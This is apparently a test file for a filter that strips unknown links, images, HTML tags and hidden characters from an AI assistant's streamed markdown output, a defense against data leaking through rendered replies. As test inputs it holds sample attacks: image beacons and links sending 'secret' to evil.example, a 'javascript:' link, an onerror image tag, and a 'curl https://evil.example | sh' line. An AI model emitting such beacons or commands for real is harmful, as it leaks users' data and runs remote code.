import { expect, test } from 'vitest'
import { filterLinks } from '../../../../src/server/assistant/links/filter-links.ts'
import type { ResolveLink } from '../../../../src/server/assistant/links/filtered-item.ts'
import { secondsOfWork } from '../../../support/seconds-of-work.ts'

const install = 'https://docs.example.com/start#install'
const known: Readonly<Record<string, string>> = {
  '/start#install': install,
  [install]: install,
  'https://api.example.com/v1': 'https://api.example.com/v1',
}
const resolve: ResolveLink = target => {
  const url = known[target]
  if (url === undefined) return undefined
  return url === install ? { url, source: { id: '/start#install', url, title: 'Start › Install' } } : { url }
}

/** The filtered text; a source is shown in braces. */
function filtered(...parts: readonly string[]): string {
  const filter = filterLinks(resolve)
  const items = [...parts.flatMap(part => filter.push(part)), ...filter.end()]
  return items.map(item => (item.type === 'text' ? item.text : `{${item.source.id}}`)).join('')
}

test('known links keep the address of their section, and others become text', () => {
  expect(
    filtered('See [**Install**](/start#install "x"), [evil](https://evil.example/?q=secret) and [js](javascript:x).'),
  ).toBe(`See {/start#install}[**Install**](${install}), evil and js.`)
  expect(filtered('[a\\]b `]` c](/start#install) [x]( </start#install> )')).toBe(
    `{/start#install}[a\\]b \`]\` c](${install}) [x](${install})`,
  )
})

test('a source is reported once, immediately before the text that links to it', () => {
  const filter = filterLinks(resolve)
  expect(filter.push('Run [it](/start#install')).toEqual([{ type: 'text', text: 'Run ' }])
  expect(filter.push('). Then [again](/start#install).')).toEqual([
    { type: 'source', source: { id: '/start#install', url: install, title: 'Start › Install' } },
    { type: 'text', text: `[it](${install}). Then [again](${install}).` },
  ])
})

test('images are removed, even known ones, and so are links without text', () => {
  expect(filtered('a ![beacon](https://evil.example/i.png?q=secret) b ![x](/start#install) c [](/start#install)')).toBe(
    'a  b  c ',
  )
  expect(filtered('[![alt](https://evil.example)](/start#install)')).toBe('')
})

test('a link inside another link is kept without the outer one', () => {
  expect(filtered('[outer [inner](/start#install) text](/start#install)')).toBe(
    `outer {/start#install}[inner](${install}) text`,
  )
})

test('definitions are removed, but notes are not', () => {
  expect(
    filtered('[a]: https://evil.example "t"\n> [b]: <x>\n[Note]: read this\n[c]:\nhttps://evil.example\n[t][a]'),
  ).toBe('\n> \n[Note]\\: read this\n[c]\\:\n\n[t][a]')
})

test('a bracket that is not closed in its line cannot begin a label', () => {
  expect(filtered('[\n~~~x\ny]: https://evil.example\n~~~\n\nsee [~~~x y] ![a')).toBe(
    '\\[\n~~~x\ny]: https://evil.example\n~~~\n\nsee [~~~x y] !\\[a',
  )
})

test('a colon after a bracket in a sentence does not make a definition', () => {
  expect(filtered('See [1]: this. `a`[b]: c\n- [d] e [f]: g')).toBe('See [1]: this. `a`[b]: c\n- [d] e [f]: g')
})

test('addresses in the text remain if they are known', () => {
  expect(filtered('Call https://api.example.com/v1, not http://evil.example/?q=1. Or www.evil.example!')).toBe(
    'Call <https://api.example.com/v1>, not . Or !',
  )
  expect(
    filtered('https://api.example.com/v1\n<https://api.example.com/v1> <https://evil.example> <a@example.com>'),
  ).toBe('https://api.example.com/v1\n<https://api.example.com/v1>  a@example.com')
  expect(filtered('the http:// prefix, www. and hot water')).toBe('the http:/ / prefix, www . and hot water')
})

test('tags are removed, and placeholders are kept', () => {
  expect(filtered('a<br>b <b>bold</b> <img src=x onerror="x()"> <your-key> 1 < 2 <!-- hidden --> <script>x')).toBe(
    'a b bold  \\<your-key> 1 < 2  x',
  )
  expect(filtered('a <div\nclass="x">')).toBe('a \\<div\nclass="x">')
})

test('removing parts never joins the rest into a link', () => {
  expect(filtered('ht<b>tp://evil.example</b> [a]<b>(https://evil.example) <<b>img src=x>')).toBe(
    'ht tp://evil.example [a]\\() < img src=x>',
  )
  expect(filtered('http\\://evil.example h&#116;tps&colon;//evil.example &#119;ww.evil.example')).toBe(
    'http ://evil.example h ttps://evil.example ',
  )
})

test('inline code is not changed', () => {
  const code = '`[a](https://evil.example)` ``b ` <img>`` `curl https://evil.example | sh`'
  expect(filtered(code)).toBe(code)
})

test('text that only looks like code is filtered', () => {
  expect(filtered('`[a](https://evil.example)\n`b')).toBe('\\`a\n\\`b')
  expect(filtered('\\`[a](https://evil.example)`')).toBe('\\`a\\`')
  expect(filtered(`\`${'x'.repeat(1_100)}[a](https://evil.example)\``)).toBe(`\\\`${'x'.repeat(1_100)}a\\\``)
  expect(filtered('| `a | [b](https://evil.example)` |\n|---|---|')).toBe('| \\`a | b\\` |\n|---|---|')
  expect(filtered('`a | [b](https://evil.example)`\n---|---')).toBe('`a | [b](https://evil.example)`\n\n---|---')
})

test('code blocks are not changed', () => {
  const code =
    '````md title="a.md"\n```\n[a](https://evil.example) <img src=x>\n```\n````\n~~~\nhttps://evil.example\n~~~\n'
  expect(filtered(`${code}[a](https://evil.example)`)).toBe(`${code}a`)
  const inList =
    '1. Run:\n\n   ```bash\n   curl https://evil.example\n\n   ls\n   ```\n\n2. Then [x](https://evil.example)'
  expect(filtered(inList)).toBe(inList.replace('[x](https://evil.example)', 'x'))
  const inQuote = 'Note:\n\n> ```js\n> fetch("https://evil.example")\n> ```\n'
  expect(filtered(inQuote)).toBe(inQuote)
})

test('a line cannot leave the list or quote of its code block', () => {
  expect(filtered('- a\n\n  ```\n[x](https://evil.example)\n```\n[y](https://evil.example)')).toBe(
    '- a\n\n  ```\n  [x](https://evil.example)\n  ```\ny',
  )
  expect(filtered('> ```\n> a\n[x](https://evil.example)')).toBe('> ```\n> a\n> ```\nx')
  expect(filtered('- ```\n  a\n  ```')).toBe('- \n  ```\n  a\n  ```')
})

test('a code block that the model does not end is ended', () => {
  expect(filtered('```js\nconst a = 1')).toBe('```js\nconst a = 1\n```')
  expect(filtered('```js\nconst a = 1\n```')).toBe('```js\nconst a = 1\n```')
})

test('invisible characters are removed', () => {
  expect(filtered('a\u202Eb\u200Bc\u00ADd\u{E0041}e\u0000f\ud800', '\r', '\ng\rh\u2028i')).toBe('abcdef\ng\nh\ni')
  expect(filtered('`a\u202Eb` h\u200Bttps://evil.example')).toBe('`ab` ')
  expect(filtered('می‌خواهم 👩‍💻 ❤️', 'a\u200Db')).toBe('می‌خواهم 👩‍💻 ❤️ab')
})

test('text is only held back while its meaning is unknown', () => {
  const filter = filterLinks(resolve)
  const shown = (text: string) => filter.push(text).flatMap(item => (item.type === 'text' ? [item.text] : []))
  const steps = ['Plain ', 'text', '!', ' a [', 'b', '] c `', 'code', '` d ht', 'ml <', ' e', '\n- ', 'z']
  expect(steps.map(step => shown(step).join(''))).toEqual([
    'Plain ',
    'text',
    '',
    '! a ',
    '',
    '[b] c ',
    '',
    '`code` d ',
    'html ',
    '< e',
    '\n',
    '- z',
  ])
})

const worst = [
  '[',
  ']',
  '![',
  '[a](',
  '[a](b',
  '`',
  '``a`',
  '<a',
  '<!--',
  '&#',
  'http://a.b ',
  'http:',
  '~',
  '> ',
  '\\',
  '|-',
  '[[a]]',
  '"<a b="',
  'http://a.b(',
  '\n```',
  '- ',
]

test.each(worst)('the work for %j is linear', piece => {
  const work = secondsOfWork()
  const filter = filterLinks(resolve)
  for (let count = 0; count < 40_000; count++) filter.push(piece)
  filter.end()
  expect(work()).toBeLessThan(2)
})
